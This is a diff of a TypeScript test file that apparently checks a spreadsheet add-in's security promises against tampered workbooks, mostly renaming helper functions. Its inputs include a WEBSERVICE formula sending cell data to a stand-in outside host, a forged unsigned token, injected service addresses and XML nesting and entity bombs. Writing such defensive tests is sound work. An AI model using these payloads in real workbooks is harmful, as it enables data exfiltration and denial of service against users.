@@ -1,7 +1,17 @@
 import { existsSync, readFileSync } from 'node:fs';
 import { RollbackError } from '../../src/workbook/linked/journal';
 import { processorMillis } from '../support/processor-millis';
-import { aimedAt, withQuery, called, frozen, marked, mine, openFile, put, typedCells } from '../support/tampered-file';
+import {
+  pointedAt,
+  withQuery,
+  withId,
+  asSnapshot,
+  withHashesOfTypedRows,
+  handMadeSheet,
+  openFile,
+  withElement,
+  typedCells,
+} from '../support/tampered-file';
 
 // The promises of SECURITY.md about untrusted workbooks, each with a test.
 
@@ -47,15 +57,17 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
     const request = jest.spyOn(globalThis, 'fetch').mockRejectedValue(new Error('offline'));
     const file = await openFile();
     await tryAll(file, [
-      put(file.validXml, `<service>${elsewhere}</service>`),
-      called(withQuery(file.validXml, `=IDS.QUERY("${elsewhere}/v2","top=1")`), 'second'),
+      withElement(file.validXml, `<service>${elsewhere}</service>`),
+      withId(withQuery(file.validXml, `=IDS.QUERY("${elsewhere}/v2","top=1")`), 'second'),
     ]);
     expect(request).not.toHaveBeenCalled();
     request.mockRestore();
   },
   'bring a token or a service address of its own': async () => {
     const file = await openFile();
-    await tryAll(file, [put(file.validXml, `<service>${elsewhere}</service><token>eyJhbGciOiJub25lIn0.e30.x</token>`)]);
+    await tryAll(file, [
+      withElement(file.validXml, `<service>${elsewhere}</service><token>eyJhbGciOiJub25lIn0.e30.x</token>`),
+    ]);
     expect(JSON.stringify([file.workbook.entered, [...file.workbook.storedParts.values()]])).not.toMatch(
       /elsewhere|eyJ/,
     );
@@ -63,18 +75,18 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
   'enter a formula other than one call of an IDS function': entersNothing(`=WEBSERVICE("${elsewhere}/?"&A1)`),
   'enter a formula that refers to another file': entersNothing(`=IDS.POSITIONS('${elsewhere}/x.xlsx'!N,"last")`),
   "make a refresh overwrite rows that don't match what the add-in wrote": changesNothing((validXml) => [
-    aimedAt(validXml, mine, 'Mine'),
+    pointedAt(validXml, handMadeSheet, 'Mine'),
   ]),
   'write into a table that was neither linked nor confirmed on this device': changesNothing((validXml) => [
     validXml,
-    called(marked(validXml), 'added'),
+    withId(withHashesOfTypedRows(validXml), 'added'),
   ]),
   'write values under the header of another column': changesNothing((validXml) => [
-    aimedAt(validXml, mine, 'Mine').replace('header="Quantity"', 'header="Price"'),
+    pointedAt(validXml, handMadeSheet, 'Mine').replace('header="Quantity"', 'header="Price"'),
   ]),
   'refresh one table through two definitions': async () => {
     const { workbook, actions, validXml } = await openFile();
-    workbook.storedParts.set('{second}', called(validXml, 'second'));
+    workbook.storedParts.set('{second}', withId(validXml, 'second'));
     const listed = await actions.listDataRanges();
     expect(listed.filter(({ address }) => address !== '')).toHaveLength(1);
     expect(listed).toContainEqual(
@@ -82,9 +94,9 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
     );
   },
   'clear cells with a forged snapshot stamp': changesNothing((validXml) => [
-    frozen(
-      aimedAt(validXml, mine, 'Mine'),
-      `<note sheet="${mine}" row="6" column="0" rows="2" columns="2" hash="2-x-y"/>`,
+    asSnapshot(
+      pointedAt(validXml, handMadeSheet, 'Mine'),
+      `<note sheet="${handMadeSheet}" row="6" column="0" rows="2" columns="2" hash="2-x-y"/>`,
     ),
   ]),
   'convert or remove cells that someone typed over': async () => {
@@ -114,15 +126,15 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
     workbook.storedParts.set('{broken}', validXml.slice(0, 200));
     workbook.storedParts.set(
       '{other}',
-      called(aimedAt(validXml, mine, 'Mine'), 'other').replaceAll('header="', 'header="x'),
+      withId(pointedAt(validXml, handMadeSheet, 'Mine'), 'other').replaceAll('header="', 'header="x'),
     );
     expect(await actions.refreshDataRanges('all')).toContainEqual(expect.objectContaining({ outcome: 'unchanged' }));
     await expect(actions.writeAudit()).resolves.toMatch(/^IDS audit/);
   },
   'stop the add-in with its size or nesting': async () => {
     const { workbook, actions, validXml } = await openFile();
-    workbook.storedParts.set('{deep}', put(validXml, `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`));
-    workbook.storedParts.set('{wide}', put(validXml, `<!--${'x'.repeat(1_000_000)}-->`));
+    workbook.storedParts.set('{deep}', withElement(validXml, `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`));
+    workbook.storedParts.set('{wide}', withElement(validXml, `<!--${'x'.repeat(1_000_000)}-->`));
     workbook.storedParts.set('{entities}', `<!DOCTYPE block [<!ENTITY a "x">]>${validXml}`);
     expect(await processorMillis(async () => expect(await actions.listDataRanges()).toHaveLength(4))).toBeLessThan(
       2_000,
